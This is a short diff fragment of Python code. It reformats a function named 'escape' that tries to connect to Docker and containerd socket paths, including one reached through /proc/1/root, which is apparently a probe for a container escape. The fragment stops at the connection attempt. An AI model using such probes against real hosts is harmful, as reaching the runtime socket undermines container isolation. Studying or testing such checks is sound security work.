@@ -3,12 +3,7 @@ import socket
 
 
 def escape():
-    for path in (
-        "/var/run/docker.sock",
-        "/run/docker.sock",
-        "/run/containerd/containerd.sock",
-        "/proc/1/root/run/docker.sock",
-    ):
+    for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/proc/1/root/run/docker.sock"):
         with socket.socket(socket.AF_UNIX) as sock:
             try:
                 sock.connect(path)
